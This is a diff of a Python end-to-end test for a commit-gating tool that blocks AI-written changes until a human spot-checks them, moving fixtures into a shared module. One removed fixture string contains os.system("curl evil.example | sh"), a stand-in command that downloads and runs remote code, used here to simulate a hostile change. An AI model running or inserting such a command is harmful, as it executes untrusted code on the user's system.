@@ -19,10 +19,7 @@ from __future__ import annotations
 import pytest
 
 from tests.e2e.conftest import World
-
-BASE = "import os\n\ndef main():\n    return 1\n"
-WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'
-PATH = "src/app.py"
+from tests.e2e.written_again import BASE, PATH, WRITER, gated_until_spot_checked
 
 #: ``record`` as the writer runs it: every path that differs from HEAD, or the path named.
 FORMS = {"changed-paths": (), "path-named": (PATH,)}
@@ -47,20 +44,7 @@ def test_the_writer_recording_again_after_a_hard_reset_is_gated(
     said = _record(w, paths)
     assert "already recorded" not in said and "no path differs" not in said, said
     assert "recorded: pending mutation #2" in said, said
-    w.ok("add", "-A")
-    blocked = w.git("commit", "-qm", "human: typed by me")
-    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
-    assert not [s for s in blocked.said if "human: " in s and " discard " in s], blocked
-    refused = w.gh("discard", "--reason", "typed by me", "--", PATH)
-    assert refused.code != 0, refused
-    assert w.ledger("SELECT count(*) FROM writer_entry WHERE state = 'discarded'") == [(0,)]
-    still = w.git("commit", "-qm", "human: typed by me")
-    assert still.code == 1 and "BLOCKED the staged change" in still.said[0], still
-    w.report()
-    w.spot_check()
-    done = w.git("commit", "-qm", "writer: curl")
-    assert done.code == 0, done
-    assert "Gentle-Writer: o4-mini/low" in w.ok("log", "-1", "--format=%B")
+    gated_until_spot_checked(w, "o4-mini/low")
 
 
 @pytest.mark.parametrize("paths", FORMS.values(), ids=FORMS.keys())
